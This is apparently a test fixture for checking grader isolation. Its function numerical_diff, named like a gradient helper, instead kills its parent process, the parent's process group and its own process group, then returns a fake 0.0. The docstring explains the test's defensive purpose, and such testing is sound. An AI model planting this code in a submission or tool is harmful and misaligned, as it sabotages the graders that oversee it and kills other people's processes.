"""numerical_diff tries to kill whoever runs it: SIGTERM then SIGKILL to its parent process,
then SIGKILL to the parent's process group and to its own process group (pid 0/1 are skipped).

A grader whose sandbox child is a direct child of the grading process, or in its process group,
dies with it. A safe grader runs the child in its own session and PID namespace, so these
signals reach no grader process.

file: gradients.py
may_lose: numerical_diff
"""
import os
import signal


def numerical_diff(f, x):
    parent = os.getppid()
    if parent > 1:
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(parent, sig)
            except OSError:
                pass
        try:
            group = os.getpgid(parent)
            if group > 1:
                os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
    try:
        own = os.getpgrp()
        if own > 1:
            os.killpg(own, signal.SIGKILL)
    except OSError:
        pass
    return 0.0
